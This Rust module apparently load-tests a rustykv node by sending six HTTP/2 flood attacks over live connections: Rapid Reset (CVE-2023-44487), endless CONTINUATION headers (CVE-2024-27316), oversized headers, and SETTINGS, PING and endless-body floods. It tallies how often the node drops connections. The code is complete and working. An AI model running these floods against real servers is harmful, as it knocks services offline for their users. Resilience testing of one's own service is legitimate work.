//! Floods over connections that are up: of frames, as fast as the node takes them. Where the node ends a connection, the next one goes on.

use std::io;
use std::time::{Duration, Instant};

use super::wire::{self, Wire};
use crate::pass::Pass;

/// Frames sent at once.
const BATCH: u32 = 64;
/// The largest that every receiver of HTTP/2 takes.
const FRAME_BYTES: usize = 16 << 10;
/// After a connection that was refused.
const PAUSE: Duration = Duration::from_millis(20);

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Headers of a quarter of a megabyte.
    OversizedHeaders,
    /// Headers that never end (CVE-2024-27316).
    EndlessHeaders,
    /// Calls that are taken back at once (CVE-2023-44487).
    RapidReset,
    Settings,
    Pings,
    /// Calls with a body that never ends.
    EndlessBodies,
}

/// What a flood came to.
#[derive(Clone, Copy, Debug, Default)]
pub struct Toll {
    pub connections: u64,
    /// Connections that the node did not take, or ended.
    pub ended: u64,
    pub frames: u64,
    pub bytes: u64,
}

impl Flood {
    pub const ALL: [Flood; 6] =
        [Flood::OversizedHeaders, Flood::EndlessHeaders, Flood::RapidReset, Flood::Settings, Flood::Pings, Flood::EndlessBodies];

    /// Runs for so long.
    pub async fn run(self, pass: Pass, node: String, time: Duration) -> Toll {
        let end = Instant::now() + time;
        let mut toll = Toll::default();
        while Instant::now() < end {
            toll.connections += 1;
            if self.pour(&pass, &node, end, &mut toll).await.is_err() {
                toll.ended += 1;
                tokio::time::sleep(PAUSE).await;
            }
        }
        toll
    }

    /// Over one connection, until it or the time is over.
    async fn pour(self, pass: &Pass, node: &str, end: Instant, toll: &mut Toll) -> io::Result<()> {
        let mut wire = Wire::open(pass, node).await?;
        let mut stream = 1;
        let mut is_first = true;
        while Instant::now() < end {
            let (bytes, frames) = self.batch(&mut stream, is_first);
            is_first = false;
            wire.send(&bytes).await?;
            toll.frames += u64::from(frames);
            toll.bytes += bytes.len() as u64;
            if wire.is_ended().await {
                return Err(io::ErrorKind::ConnectionReset.into());
            }
        }
        Ok(())
    }

    fn batch(self, stream: &mut u32, is_first: bool) -> (Vec<u8>, u32) {
        let mut bytes = Vec::new();
        let block = wire::call("/rustykv.v1.Trust/Admit");
        match self {
            Flood::OversizedHeaders => {
                bytes.extend(wire::frame(wire::HEADERS, 0, *stream, &block));
                for number in 0..16 {
                    let flags = if number == 15 { wire::END_HEADERS } else { 0 };
                    bytes.extend(wire::frame(wire::CONTINUATION, flags, *stream, &wire::header(number, FRAME_BYTES - 64)));
                }
                *stream += 2;
                (bytes, 17)
            }
            Flood::EndlessHeaders => {
                if is_first {
                    bytes.extend(wire::frame(wire::HEADERS, 0, 1, &block));
                }
                for number in 0..BATCH {
                    // Small ones: it is their number that costs.
                    bytes.extend(wire::frame(wire::CONTINUATION, 0, 1, &wire::header(number.into(), 1)));
                }
                (bytes, BATCH)
            }
            Flood::RapidReset => {
                for _ in 0..BATCH {
                    bytes.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, *stream, &block));
                    bytes.extend(wire::frame(wire::RST_STREAM, 0, *stream, &8u32.to_be_bytes()));
                    *stream += 2;
                }
                (bytes, 2 * BATCH)
            }
            Flood::Settings => {
                // SETTINGS_MAX_CONCURRENT_STREAMS, which costs the receiver nothing but the answer.
                for number in 0..BATCH {
                    bytes.extend(wire::frame(wire::SETTINGS, 0, 0, &[&[0, 3][..], &(100 + number).to_be_bytes()].concat()));
                }
                (bytes, BATCH)
            }
            Flood::Pings => {
                for number in 0..BATCH {
                    bytes.extend(wire::frame(wire::PING, 0, 0, &u64::from(number).to_be_bytes()));
                }
                (bytes, BATCH)
            }
            Flood::EndlessBodies => {
                if is_first {
                    // A message that is said to be as long as is taken, so that its end is waited for.
                    let prefix = [&[0][..], &(16u32 << 10).to_be_bytes()].concat();
                    for _ in 0..BATCH {
                        bytes.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, *stream, &block));
                        bytes.extend(wire::frame(wire::DATA, 0, *stream, &prefix));
                        *stream += 2;
                    }
                }
                for number in 0..BATCH {
                    bytes.extend(wire::frame(wire::DATA, 0, 1 + 2 * number, &[0]));
                }
                (bytes, BATCH)
            }
        }
    }
}

impl Toll {
    pub fn and(self, other: Toll) -> Toll {
        Toll {
            connections: self.connections + other.connections,
            ended: self.ended + other.ended,
            frames: self.frames + other.frames,
            bytes: self.bytes + other.bytes,
        }
    }
}
